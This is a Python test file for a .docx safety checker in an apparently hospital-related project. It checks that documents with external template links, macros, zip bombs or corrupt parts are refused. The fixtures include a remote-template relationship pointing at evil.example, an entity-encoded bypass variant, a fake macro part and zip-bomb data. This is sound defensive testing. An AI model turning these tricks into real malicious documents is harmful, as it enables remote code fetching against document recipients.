import io
import zipfile

from hospidesk.documents.checks import inspect_docx
from tests.documents.helpers import add_part, docx_with_link, make_docx

EXTERNAL_RELS = (
    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
    b'relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/'
    b'officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" '
    b'TargetMode="External"/></Relationships>'
)


def reasons(data: bytes) -> str:
    return " | ".join(p.reason for p in inspect_docx(data))


def test_a_plain_document_is_accepted() -> None:
    assert inspect_docx(make_docx(["Bonjour"])) == []


def test_external_relationship_is_refused() -> None:
    data = add_part(make_docx(["x"]), "word/_rels/settings.xml.rels", EXTERNAL_RELS)
    assert "contenu externe" in reasons(data)


def test_a_link_to_a_web_page_is_read_in_a_source_never_written() -> None:
    data = docx_with_link("Voir ", "le site du CHU", "https://www.chu.example/rendez-vous")
    assert inspect_docx(data, fields=False) == []  # a source: only its text is read
    assert "contenu externe" in reasons(data)  # a template, a letterhead, a written document


def test_other_outside_references_stay_refused_in_a_source() -> None:
    data = add_part(make_docx(["x"]), "word/_rels/settings.xml.rels", EXTERNAL_RELS)
    assert "contenu externe" in " ".join(p.reason for p in inspect_docx(data, fields=False))
    # a hyperlink's type on another relationship's part name does not make it a link
    other = EXTERNAL_RELS.replace(b"attachedTemplate", b"attachedTemplate#hyperlink")
    data = add_part(make_docx(["x"]), "word/_rels/settings.xml.rels", other)
    assert inspect_docx(data, fields=False) != []


def test_external_written_with_character_references_is_refused() -> None:
    """Word reads the attribute as XML does: « Exte&#114;nal » is External."""
    encoded = EXTERNAL_RELS.replace(b'TargetMode="External"', b'TargetMode="Exte&#114;nal"')
    data = add_part(make_docx(["x"]), "word/_rels/settings.xml.rels", encoded)
    assert "contenu externe" in reasons(data)
    damaged = add_part(make_docx(["x"]), "word/_rels/settings.xml.rels", EXTERNAL_RELS[:-20])
    assert "illisible (word/_rels/settings.xml.rels)" in reasons(damaged)  # refused unread


def test_macro_part_is_refused() -> None:
    data = add_part(make_docx(["x"]), "word/vbaProject.bin", b"\xd0\xcf\x11\xe0")
    assert "macros" in reasons(data)


def test_macro_content_type_renamed_docx_is_refused() -> None:
    base = make_docx(["x"])
    types = zipfile.ZipFile(io.BytesIO(base)).read("[Content_Types].xml")
    types = types.replace(
        b"wordprocessingml.document.main+xml", b"ms-word.document.macroEnabled.main+xml"
    )
    assert "macros" in reasons(add_part(base, "[Content_Types].xml", types, replace=True))


def test_zip_bomb_is_refused() -> None:
    data = add_part(make_docx(["x"]), "word/bomb.xml", b"\0" * (80 * 1024 * 1024))
    assert "volumineux" in reasons(data) or "compressé" in reasons(data)


def test_highly_compressed_part_is_refused() -> None:
    data = add_part(make_docx(["x"]), "word/bomb.xml", b"A" * (5 * 1024 * 1024))
    assert "compressé" in reasons(data)


def test_not_a_zip() -> None:
    assert "pas un document Word" in reasons(b"PK\x03\x04 not really")
    assert "pas un document Word" in reasons(b"Bonjour")
